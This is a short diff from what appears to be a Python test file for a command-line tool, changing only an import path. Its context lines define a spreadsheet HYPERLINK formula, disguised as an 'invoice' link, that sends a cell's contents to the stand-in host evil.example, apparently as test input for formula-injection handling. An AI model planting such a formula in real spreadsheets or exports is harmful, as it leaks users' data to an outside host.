@@ -9,7 +9,7 @@ import io
 import pytest
 from infery_cli.__main__ import main
 
-from tests.integration.support import assert_ok
+from tests.support.api import assert_ok
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"invoice")'
 
